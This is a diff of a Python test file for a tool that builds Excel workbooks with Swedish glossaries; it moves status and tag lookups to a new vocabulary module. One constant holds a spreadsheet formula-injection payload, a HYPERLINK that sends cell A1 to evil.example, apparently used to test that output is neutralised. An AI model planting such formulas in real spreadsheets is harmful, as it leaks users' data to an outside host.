@@ -8,6 +8,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
+from base import vocabulary
 from publish import changes, outputs, stats, swedish
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Näringslivsprogram")'
@@ -207,8 +208,8 @@ def test_workbook_glossary_explains_every_column_status_and_tag(tmp_path: Path) 
             text = explained.get((sheet.title, cell.value))
             assert text and text != outputs.UNEXPLAINED, f"{sheet.title}: column {cell.value!r} is not explained"
     values = {(section, csv_name) for section, _, _, csv_name, _ in rows}
-    assert {("Status", s) for s in stats.STATUS_NAMES} <= values
-    assert {("Tagg", t) for t in stats.TAGS} <= values
+    assert {("Status", s) for s in vocabulary.STATUS_NAMES} <= values
+    assert {("Tagg", t) for t in vocabulary.COUNTED_TAGS} <= values
     assert {("Förändring", c) for c in changes.CHANGES} <= values
 
 
@@ -227,7 +228,7 @@ def test_glossary_marks_unexplained_columns_and_is_neutralised(tmp_path: Path) -
 def test_every_status_and_override_field_has_an_explanation() -> None:
     from publish import overrides
 
-    assert set(outputs.STATUS_EXPLANATIONS) == set(stats.STATUS_NAMES)
+    assert set(outputs.STATUS_EXPLANATIONS) == set(vocabulary.STATUS_NAMES)
     missing = sorted({*overrides.FIELDS, *overrides.PROVENANCE_COLUMNS} - set(outputs.COLUMNS))
     assert not missing, f"columns an override can add but the glossary cannot explain: {missing}"
     assert all(header and text for header, text in outputs.COLUMNS.values())
